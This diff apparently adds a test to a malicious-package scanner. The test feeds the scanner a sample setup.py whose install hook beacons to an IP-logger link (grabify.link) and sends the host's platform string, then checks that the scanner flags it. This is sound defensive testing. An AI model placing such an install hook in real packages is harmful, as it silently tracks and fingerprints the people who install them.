@@ -408,3 +408,30 @@ describe('PY-005: a shell script written from a constant and run', () => {
     expect(findingsOf(r, 'PY-005')).toHaveLength(0);
   });
 });
+
+describe('IP-logger beacons at install', () => {
+  it('a setup.py that requests an IP-logger link at install is malicious', async () => {
+    const setup = [
+      'from setuptools import setup',
+      'from setuptools.command.install import install',
+      'import urllib.request, platform',
+      'class Hook(install):',
+      '    def run(self):',
+      "        urllib.request.urlopen(urllib.request.Request('https://grabify.link/E09EIF', headers={'User-Agent': platform.platform()}))",
+      '        install.run(self)',
+      "setup(name='colourful', version='0.1', cmdclass={'install': Hook})",
+    ].join('\n');
+    const r = await scanSdist({ 'setup.py': setup }, 'colourful');
+    expect(findingsOf(r, 'NET-001').some((f) => f.evidence?.endpointKind === 'ip-logger')).toBe(true);
+    expect(r.verdict).toBe('malicious');
+    // with nothing of the host sent, the IP-logger request alone still is (contacting it is the
+    // beacon); the same bare request to an ordinary host is not
+    const bare = setup.replace(", headers={'User-Agent': platform.platform()}", '');
+    expect((await scanSdist({ 'setup.py': bare }, 'colourful')).verdict).toBe('malicious');
+    const plain = await scanSdist(
+      { 'setup.py': bare.replace('grabify.link/E09EIF', 'pypi.org/simple/') },
+      'colourful',
+    );
+    expect(plain.verdict).not.toBe('malicious');
+  });
+});
